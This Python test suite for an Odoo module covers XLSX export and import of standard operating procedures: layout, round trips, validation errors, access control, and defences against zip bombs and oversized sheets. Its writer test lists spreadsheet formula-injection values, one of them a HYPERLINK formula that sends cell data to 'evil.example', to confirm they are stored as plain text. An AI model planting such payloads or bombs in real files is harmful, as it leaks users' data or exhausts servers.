import base64
import io
import re
import tracemalloc
import zipfile

import openpyxl

from odoo import fields
from odoo.exceptions import AccessError
from odoo.exceptions import UserError
from odoo.tests import HttpCase
from odoo.tests import new_test_user
from odoo.tests import tagged
from odoo.tests.common import BaseCase
from odoo.tests.common import TransactionCase

from ..tools import sop_xlsx
from ..tools.xlsx_writer import SafeWorkbook
from ..tools.xlsx_writer import write_text


def _xlsx_compare_values(sop):
    """Field-by-field content of the SOP, for round-trip checks (no ids, no workflow)."""
    sop.ensure_one()
    return {
        "name": sop.name,
        "revision_no": sop.revision_no,
        "unit_id": sop.unit_id.id,
        "date_created": sop.date_created and fields.Date.to_string(sop.date_created),
        "date_revision": sop.date_revision and fields.Date.to_string(sop.date_revision),
        "date_effective": sop.date_effective and fields.Date.to_string(sop.date_effective),
        "signatory_position": sop.signatory_position or False,
        "signatory_name": sop.signatory_name or False,
        "signatory_rank": sop.signatory_rank or False,
        "signatory_nip": sop.signatory_nip or False,
        "role_ids": sorted(sop.role_ids.ids),
        "lines": [
            (line.kind, line.name, line.related_procedure_id.id)
            for kind in sop_xlsx.LINE_KINDS
            for line in sop._get_lines(kind)
        ],
        "sections": [(s.code or False, s.name) for s in sop.section_ids.sorted(lambda s: (s.sequence, s.id))],
        "steps": [
            (
                step.section_id.code or False,
                step.number,
                step.kind,
                step.role_id.id,
                step.name,
                step.requirement or False,
                step.duration_qty,
                step.duration_unit or False,
                step.output or False,
                step.remarks or False,
                step.return_step_id.code or False,
            )
            for step in sop._get_ordered_steps()
        ],
    }


def _load(content):
    return openpyxl.load_workbook(io.BytesIO(content))


def _save(book):
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _rewrite_zip(content, replace=None, add=None):
    """Copy an XLSX zip, ``replace`` mapping a part name to a function of its bytes, ``add`` new parts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if replace and info.filename in replace:
                data = replace[info.filename](data)
            target.writestr(info, data)
        for name, (data, method) in (add or {}).items():
            target.writestr(name, data, compress_type=method)
    return buffer.getvalue()


def _procedure_part(content):
    """Name of the zip part of sheet Prosedur (as written by openpyxl or xlsxwriter)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    return sorted(names)[1]


def _find_row(sheet, text):
    for row in sheet.iter_rows(min_row=sop_xlsx.FIRST_DATA_ROW):
        if row[1].value == text:
            return row[0].row
    raise AssertionError(f"row {text!r} not found")


def _header_col(sheet, label, row=sop_xlsx.HEADER_ROW + 1):
    for cell in sheet[row]:
        if cell.value == label:
            return cell.column_letter
    raise AssertionError(f"header {label!r} not found")


@tagged("post_install", "-at_install")
class TestSopXlsx(TransactionCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env = cls.env(context=dict(cls.env.context, tracking_disable=True))
        cls.Procedure = cls.env["sop.procedure"].with_context(active_test=False)
        cls.skj = cls.env.ref("sop_organisasi.sop_skj")
        cls.skj_xlsx = cls.skj._export_xlsx()

    def _counts(self):
        return (
            self.Procedure.search_count([]),
            self.env["sop.step"].search_count([]),
            self.env["sop.section"].search_count([]),
            self.env["sop.procedure.line"].search_count([]),
        )

    def _assert_import_error(self, content, *messages):
        before = self._counts()
        with self.assertRaises(UserError) as error:
            self.env["sop.procedure"]._import_xlsx(content)
        for message in messages:
            self.assertIn(message, str(error.exception))
        self.assertEqual(self._counts(), before, "nothing is created")
        return str(error.exception)

    # ------------------------------------------------------------ export
    def test_export_layout(self):
        book = _load(self.skj_xlsx)
        self.assertEqual(book.sheetnames, ["Identitas", "Prosedur"])
        ident = book["Identitas"]
        values = {}
        for row in ident.iter_rows(min_row=3):
            if row[0].value:
                values.setdefault(row[0].value, row[1].value)  # first line of each box
        self.assertEqual(values["Nama SOP"], "PENYUSUNAN STANDAR KOMPETENSI JABATAN (SKJ)")
        self.assertEqual(values["Nomor SOP"], "065/SOP/417.112/02")
        self.assertEqual(values["NIP"], "195901091987121002")
        self.assertEqual(values["Tanggal Efektif"].date().isoformat(), "2018-03-13")
        self.assertEqual(values["Dasar Hukum"], "PP No 11 Tahun 2017 Tentang Manajemen Penagwai Negeri Sipil")
        proc = book["Prosedur"]
        header = [c.value for c in proc[sop_xlsx.HEADER_ROW + 1]]
        labels = [r._get_column_label() for r in self.skj.role_ids.sorted(lambda r: (r.sequence, r.id))]
        self.assertEqual(header[2 : 2 + len(labels)], labels)
        self.assertEqual(header[2 + len(labels) : 5 + len(labels)], ["Kelengkapan", "Waktu", "Output"])
        self.assertEqual(proc["A3"].value, "No")
        self.assertEqual(proc["B3"].value, "Kegiatan")
        # section A, then A.1 .. A.8; A.4 is a decision of the Kabag returning to A.2
        self.assertEqual(proc["A5"].value, "A")
        self.assertEqual(proc["B5"].value, "PERENCANAAN")
        kabag = labels.index("Kabag Organisasi")
        row_a4 = [c.value for c in proc[9]]
        self.assertEqual(row_a4[0], 4)
        self.assertEqual(row_a4[2 + kabag], "Keputusan")
        self.assertEqual(row_a4[3 + len(labels)], "30 menit")
        self.assertEqual(row_a4[-1], "A.2")
        # printing set-up: landscape, fit to width, header rows repeated
        self.assertEqual(proc.page_setup.orientation, "landscape")
        self.assertTrue(proc.sheet_properties.pageSetUpPr.fitToPage)
        self.assertIn(proc.page_setup.fitToWidth, (None, 1, "1"))  # 1 page wide (the default)
        self.assertEqual(str(proc.page_setup.fitToHeight), "0", "as many pages high as needed")
        self.assertEqual(proc.print_title_rows, "$3:$4")

    # ------------------------------------------------------------ round trip
    def test_round_trip_all_seeded_sops(self):
        unit = self.env.ref("sop_organisasi.dept_bagian_organisasi")
        seeded = self.env["sop.procedure"].search([("unit_id", "=", unit.id)])
        self.assertEqual(len(seeded), 14)
        for sop in seeded:
            new = self.env["sop.procedure"]._import_xlsx(sop._export_xlsx())
            self.assertNotEqual(new, sop)
            self.assertEqual(new.state, "draft")
            self.assertEqual(_xlsx_compare_values(new), _xlsx_compare_values(sop), sop.name)
            # and the new SOP exports to the same workbook content
            again = sop_xlsx.read_workbook(new._export_xlsx())
            first = sop_xlsx.read_workbook(sop._export_xlsx())
            self.assertEqual(again["sections"], first["sections"])
            self.assertEqual(again["roles"], first["roles"])

    def test_import_new_revision(self):
        before = _xlsx_compare_values(self.skj)
        revision = self.env["sop.procedure"]._import_xlsx(self.skj_xlsx, revise=self.skj)
        self.assertEqual(revision.previous_id, self.skj)
        self.assertEqual(revision.root_id, self.skj.root_id)
        self.assertEqual(revision.number, self.skj.number)
        self.assertEqual(revision.revision_no, self.skj.revision_no + 1)
        self.assertEqual(revision.state, "draft")
        self.assertFalse(revision.date_effective)
        values = _xlsx_compare_values(revision)
        for key in ("revision_no", "date_revision", "date_effective"):
            values.pop(key)
            before.pop(key)
        self.assertEqual(values, before)
        self.assertEqual(self.skj.state, "effective")
        with self.assertRaisesRegex(UserError, "already exists"):
            self.env["sop.procedure"]._import_xlsx(self.skj_xlsx, revise=self.skj)
        with self.assertRaisesRegex(UserError, "Only an effective SOP"):
            self.env["sop.procedure"]._import_xlsx(self.skj_xlsx, revise=revision)

    def test_wizard_and_template(self):
        wizard = self.env["sop.import.wizard"].create({"file": base64.b64encode(self.skj_xlsx), "target": "new"})
        action = wizard.action_import()
        new = self.env["sop.procedure"].browse(action["res_id"])
        self.assertEqual(new.step_count, 26)
        self.assertEqual(wizard.action_download_template()["url"], "/sop_organisasi/xlsx/template")
        labels = ["Staf", "Kabag Organisasi"]
        template = sop_xlsx.write_workbook(sop_xlsx.template_data(labels))
        book = _load(template)
        self.assertEqual([c.value for c in book["Prosedur"][4]][2:4], labels)
        ident = book["Identitas"]
        ident["B3"] = "Pengujian Template"
        example = self.env["sop.procedure"]._import_xlsx(_save(book))
        self.assertEqual(example.name, "Pengujian Template")
        self.assertEqual(example._get_ordered_steps().mapped("kind"), ["start", "process", "decision", "end"])
        self.assertEqual(example._get_ordered_steps()[2].return_step_id.code, "A.2")
        self.assertEqual(example._get_ordered_steps()[1].duration_display, "2 jam")

    # ------------------------------------------------------------ errors
    def test_error_bad_time(self):
        book = _load(self.skj_xlsx)
        sheet = book["Prosedur"]
        col = _header_col(sheet, "Waktu")
        row = _find_row(sheet, self.skj._get_ordered_steps()[1].name)
        self.assertEqual(f"{col}{row}", "I7")
        sheet[f"{col}{row}"] = "2 hri"
        self._assert_import_error(_save(book), "Prosedur!I7: unknown time '2 hri'")

    def test_error_unknown_actor(self):
        book = _load(self.skj_xlsx)
        sheet = book["Prosedur"]
        col = _header_col(sheet, "Tim")
        sheet[f"{col}4"] = "Tim Siluman"
        self._assert_import_error(_save(book), f"Prosedur!{col}4: unknown actor 'Tim Siluman'")

    def test_error_missing_step_text(self):
        book = _load(self.skj_xlsx)
        sheet = book["Prosedur"]
        row = _find_row(sheet, self.skj._get_ordered_steps()[2].name)
        sheet[f"B{row}"] = None
        self._assert_import_error(_save(book), f"Prosedur!B{row}: the step text is missing")

    def test_error_decision_without_return(self):
        book = _load(self.skj_xlsx)
        sheet = book["Prosedur"]
        row = _find_row(sheet, self.skj._get_ordered_steps()[3].name)
        last = sheet.cell(row=row, column=sheet.max_column)
        last.value = None
        self._assert_import_error(_save(book), f"Prosedur!{last.column_letter}{row}: decision without return step")

    def test_error_unknown_return_step(self):
        book = _load(self.skj_xlsx)
        sheet = book["Prosedur"]
        row = _find_row(sheet, self.skj._get_ordered_steps()[3].name)
        last = sheet.cell(row=row, column=sheet.max_column)
        last.value = "A.99"
        self._assert_import_error(_save(book), f"Prosedur!{last.column_letter}{row}: unknown return step 'A.99'")

    def test_error_wrong_sheet(self):
        book = _load(self.skj_xlsx)
        book["Prosedur"].title = "Sheet1"
        self._assert_import_error(_save(book), "Prosedur: sheet missing")

    def test_error_bad_header(self):
        book = _load(self.skj_xlsx)
        book["Prosedur"]["B3"] = "Activity"
        self._assert_import_error(_save(book), "Prosedur!B3: bad header, expected 'Kegiatan'")
        book = _load(self.skj_xlsx)
        book["Prosedur"]["B3"] = "Kegiatan"
        col = _header_col(book["Prosedur"], "Output")
        book["Prosedur"][f"{col}4"] = "Hasil"
        self._assert_import_error(_save(book), f"Prosedur!{col}4: bad header, expected 'Output'")

    def test_error_not_a_workbook(self):
        self._assert_import_error(b"this is not a workbook", "not an XLSX workbook")

    def test_several_errors_in_one_message(self):
        book = _load(self.skj_xlsx)
        sheet = book["Prosedur"]
        sheet["I7"] = "2 hri"
        sheet["B8"] = ""
        book["Identitas"]["B6"] = "Bagian Entah"
        message = self._assert_import_error(
            _save(book),
            "Prosedur!I7: unknown time '2 hri'",
            "Prosedur!B8: the step text is missing",
        )
        self.assertEqual(message.count("Prosedur!"), 2)
        # the unit is checked once the workbook itself reads fine
        book["Prosedur"]["I7"] = "2 jam"
        book["Prosedur"]["B8"] = "Menyediakan konsep"
        self._assert_import_error(_save(book), "Identitas!B6: unknown unit 'Bagian Entah'")

    def test_import_access(self):
        plain = new_test_user(self.env, "sop_xlsx_plain", groups="base.group_user")
        with self.assertRaises(AccessError):
            self.env["sop.import.wizard"].with_user(plain).create({"file": base64.b64encode(self.skj_xlsx)})
        opd = new_test_user(self.env, "sop_xlsx_opd", groups="sop_organisasi.group_sop_opd_user")
        with self.assertRaises(AccessError):
            self.env["sop.import.wizard"].with_user(opd).create({"file": base64.b64encode(self.skj_xlsx)})
        # an SOP user imports for the units he is responsible for, and only for those
        staff = new_test_user(self.env, "sop_xlsx_staff", groups="sop_organisasi.group_sop_user")
        staff.sop_unit_ids = self.env.ref("sop_organisasi.dept_bagian_organisasi")
        # the SKJ's workbook says "Revisi ke 1": a new SOP of an SOP User starts at revision 0
        wizard = self.env["sop.import.wizard"].with_user(staff).create({"file": base64.b64encode(self.skj_xlsx)})
        with self.assertRaisesRegex(UserError, "revision 0"):
            wizard.action_import()
        book = _load(self.skj_xlsx)
        for row in book["Identitas"].iter_rows():
            if row[0].value == "Revisi ke":
                row[1].value = 0
        wizard = self.env["sop.import.wizard"].with_user(staff).create({"file": base64.b64encode(_save(book))})
        new = self.env["sop.procedure"].browse(wizard.action_import()["res_id"])
        self.assertEqual(new.revision_no, 0)
        self.assertEqual(new.create_uid, staff)
        self.assertEqual(new.step_count, 26)
        outsider = new_test_user(self.env, "sop_xlsx_outsider", groups="sop_organisasi.group_sop_user")
        before = self._counts()
        with self.assertRaises(AccessError):
            self.env["sop.procedure"].with_user(outsider)._import_xlsx(_save(book))
        self.assertEqual(self._counts(), before, "nothing is created")

    def test_export_access(self):
        opd = new_test_user(self.env, "sop_xlsx_opd_export", groups="sop_organisasi.group_sop_opd_user")
        content = self.skj.with_user(opd)._export_xlsx()
        self.assertEqual(_load(content)["Identitas"]["B3"].value, self.skj.name)
        draft = self.env.ref("sop_organisasi.sop_draft_01").with_user(opd)
        with self.assertRaises(AccessError):
            draft._export_xlsx()


@tagged("post_install", "-at_install")
class TestSopXlsxDownload(HttpCase):
    def test_download_routes(self):
        self.authenticate("admin", "admin")
        skj = self.env.ref("sop_organisasi.sop_skj")
        action = skj.action_export_xlsx()
        response = self.url_open(action["url"])
        self.assertEqual(response.status_code, 200)
        self.assertIn("spreadsheetml", response.headers["Content-Type"])
        self.assertEqual(_load(response.content).sheetnames, ["Identitas", "Prosedur"])
        response = self.url_open("/sop_organisasi/xlsx/template")
        self.assertEqual(response.status_code, 200)
        self.assertEqual(_load(response.content)["Prosedur"]["B3"].value, "Kegiatan")

    def test_download_access(self):
        new_test_user(self.env, "sop_dl_opd", password="sop_dl_opd", groups="sop_organisasi.group_sop_opd_user")
        self.authenticate("sop_dl_opd", "sop_dl_opd")
        skj = self.env.ref("sop_organisasi.sop_skj")
        self.assertEqual(self.url_open(f"/sop_organisasi/xlsx/{skj.id}").status_code, 200)
        draft = self.env.ref("sop_organisasi.sop_draft_01")
        response = self.url_open(f"/sop_organisasi/xlsx/{draft.id}")
        self.assertNotEqual(response.status_code, 200, "OPD users only see effective SOPs")
        self.assertNotIn(b"PK", response.content[:2])


@tagged("post_install", "-at_install")
class TestSopXlsxLimits(TransactionCase):
    """Hostile or oversized workbooks are refused before their cells are read (issue 10)."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env = cls.env(context=dict(cls.env.context, tracking_disable=True))
        cls.skj = cls.env.ref("sop_organisasi.sop_skj")
        cls.skj_xlsx = cls.skj._export_xlsx()

    def _counts(self):
        return (
            self.env["sop.procedure"].with_context(active_test=False).search_count([]),
            self.env["sop.step"].search_count([]),
        )

    def _import_error(self, content, *messages):
        """Import ``content``; return the UserError text and the peak of Python memory (MB) it took."""
        before = self._counts()
        tracemalloc.start()
        try:
            with self.assertRaises(UserError) as error:
                self.env["sop.procedure"]._import_xlsx(content)
            peak = tracemalloc.get_traced_memory()[1] / 1024 / 1024
        finally:
            tracemalloc.stop()
        for message in messages:
            self.assertIn(message, str(error.exception))
        self.assertEqual(self._counts(), before, "nothing is created")
        return str(error.exception), peak

    def _with_cell(self, coordinate, value="x", sheet="Prosedur"):
        book = _load(self.skj_xlsx)
        book[sheet][coordinate] = value
        return _save(book)

    def _limits_named(self, message):
        for text in ("1000 rows", "40 columns", "200 steps", "5 MB"):
            self.assertIn(text, message)

    # ------------------------------------------------------------ bombs
    def test_far_cell_row_8000_refused_without_padding(self):
        content = self._with_cell("XFD8000")
        self.assertLess(len(content), 20_000)
        message, peak = self._import_error(content, "too large", "Prosedur", "row 8000")
        self._limits_named(message)
        self.assertLess(peak, 30, "the rows are not padded to column XFD")

    def test_last_cell_of_the_sheet_refused(self):
        _message, peak = self._import_error(self._with_cell("XFD1048576"), "row 1048576")
        self.assertLess(peak, 30)

    def test_far_cell_behind_a_wrong_dimension_refused(self):
        """A sheet that declares a small size (or none) is still streamed, not trusted."""
        content = self._with_cell("XFD8000")
        part = _procedure_part(content)
        for dimension in (b'<dimension ref="A1:N30"/>', b""):
            forged = _rewrite_zip(
                content, replace={part: lambda data, d=dimension: re.sub(rb"<dimension [^>]*/>", d, data)}
            )
            _message, peak = self._import_error(forged, "too large", "Prosedur")
            self.assertLess(peak, 30)
        forged = _rewrite_zip(
            self._with_cell("AZ6"), replace={part: lambda data: re.sub(rb"<dimension [^>]*/>", b"", data)}
        )
        self._import_error(forged, "column AZ")

    def test_too_many_rows_and_columns(self):
        self._import_error(self._with_cell("B1001", "Catatan"), "row 1001")
        self._import_error(self._with_cell("A1001", "x", sheet="Identitas"), "Identitas", "row 1001")
        self._import_error(self._with_cell("AO6"), "column AO")
        # the last row and column within the limits are read (and here refused for their content)
        book = _load(self.skj_xlsx)
        book["Prosedur"]["A1000"] = 5
        book["Prosedur"]["AN1000"] = "x"
        message, _peak = self._import_error(_save(book), "Prosedur!B1000: the step text is missing")
        self.assertNotIn("too large", message)

    def test_too_many_steps(self):
        data = self.skj._get_xlsx_data()
        step = data["sections"][0]["steps"][1]

        def steps(count):
            return [dict(step, number=number) for number in range(1, count + 1)]

        data["sections"] = [{"code": "A", "name": "PELAKSANAAN", "steps": steps(sop_xlsx.MAX_STEPS + 1)}]
        self._import_error(sop_xlsx.write_workbook(data), "The procedure has 201 steps", "200 steps per SOP")
        data["sections"][0]["steps"] = steps(sop_xlsx.MAX_STEPS)
        procedure = self.env["sop.procedure"]._import_xlsx(sop_xlsx.write_workbook(data))
        self.assertEqual(procedure.step_count, sop_xlsx.MAX_STEPS)

    def test_file_and_zip_bomb_limits(self):
        big = bytes(range(256)) * (6 * 4096)  # 6 MB that do not compress (stored)
        self._import_error(
            _rewrite_zip(self.skj_xlsx, add={"xl/media/big.bin": (big, zipfile.ZIP_STORED)}), "The file is 6."
        )
        bomb = b"\0" * (sop_xlsx.MAX_UNPACKED_BYTES + 1)  # about 20 KB once compressed
        content = _rewrite_zip(self.skj_xlsx, add={"xl/media/bomb.bin": (bomb, zipfile.ZIP_DEFLATED)})
        self.assertLess(len(content), 100_000)
        self._import_error(content, "unpacks to 20.")
        many = {f"xl/media/p{i}.bin": (b"", zipfile.ZIP_STORED) for i in range(sop_xlsx.MAX_PARTS)}
        self._import_error(_rewrite_zip(self.skj_xlsx, add=many), "files.")

    # ------------------------------------------------------------ damaged
    def test_damaged_sheet_in_a_valid_zip(self):
        part = _procedure_part(self.skj_xlsx)
        content = _rewrite_zip(self.skj_xlsx, replace={part: lambda data: data[: len(data) // 2]})
        self._import_error(content, "The file is damaged")
        content = _rewrite_zip(self.skj_xlsx, replace={"xl/sharedStrings.xml": lambda data: b"<sst><si><t>"})
        self._import_error(content, "The file is damaged")
        content = _rewrite_zip(
            self.skj_xlsx, replace={part: lambda data: data.replace(b"<sheetData>", b"<sheetData><row r=")}
        )
        self._import_error(content, "The file is damaged")

    def test_damaged_message_in_indonesian(self):
        self.env["res.lang"]._activate_lang("id_ID")
        self.env["ir.module.module"].search([("name", "=", "sop_organisasi")])._update_translations(["id_ID"])
        part = _procedure_part(self.skj_xlsx)
        content = _rewrite_zip(self.skj_xlsx, replace={part: lambda data: data[: len(data) // 2]})
        with self.assertRaisesRegex(UserError, "rusak"):
            self.env["sop.procedure"].with_context(lang="id_ID")._import_xlsx(content)
        with self.assertRaisesRegex(UserError, "terlalu besar"):
            self.env["sop.procedure"].with_context(lang="id_ID")._import_xlsx(self._with_cell("XFD8000"))

    # ------------------------------------------------------------ template and step numbers
    def test_template_roles_become_the_sop_roles_only_when_used(self):
        roles = self.env["sop.role"].search([])
        self.assertGreater(len(roles), 2)
        labels = [role._get_column_label() for role in roles]
        book = _load(sop_xlsx.write_workbook(sop_xlsx.template_data(labels)))
        self.assertEqual([c.value for c in book["Prosedur"][4]][2 : 2 + len(labels)], labels)
        book["Identitas"]["B3"] = "Template Semua Pelaksana"
        procedure = self.env["sop.procedure"]._import_xlsx(_save(book))
        self.assertEqual(procedure.role_ids, roles[:2], "only the actors of the example steps")
        self.assertEqual(procedure._get_ordered_steps().role_id, roles[:2])

    def test_reused_step_number_reported(self):
        book = _load(self.skj_xlsx)
        sheet = book["Prosedur"]
        self.assertEqual((sheet["A6"].value, sheet["A7"].value), (1, 2))
        sheet["A7"] = 1
        self._import_error(_save(book), "Prosedur!A7: step number 1 is used twice in section A (also in row 6)")


@tagged("post_install", "-at_install")
class TestXlsxWriter(BaseCase):
    """Every export writes user text as text: no formula, no link (issue 10 item 3)."""

    HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"Klik")', "{=1+1}", "http://evil.example", "+1", "-2", "@SUM(A1)")

    def test_text_stays_text(self):
        book = SafeWorkbook()
        sheet = book.add_worksheet("Data")
        for row, text in enumerate(self.HOSTILE):
            sheet.write(row, 0, text)
            sheet.write_row(row, 1, [text, 3])
            write_text(sheet, row, 3, text)
        sheet.merge_range(10, 0, 10, 2, self.HOSTILE[0])
        sheet.write(11, 0, "")
        sheet.write(12, 0, 2.5)
        result = openpyxl.load_workbook(io.BytesIO(book.to_bytes()))["Data"]
        for row, text in enumerate(self.HOSTILE, start=1):
            for col in (1, 2, 4):
                cell = result.cell(row=row, column=col)
                self.assertEqual((cell.value, cell.data_type), (text, "s"))
                self.assertIsNone(cell.hyperlink)
            self.assertEqual(result.cell(row=row, column=3).value, 3)
        self.assertEqual((result["A11"].value, result["A11"].data_type), (self.HOSTILE[0], "s"))
        self.assertIsNone(result["A12"].value)
        self.assertEqual(result["A13"].value, 2.5)
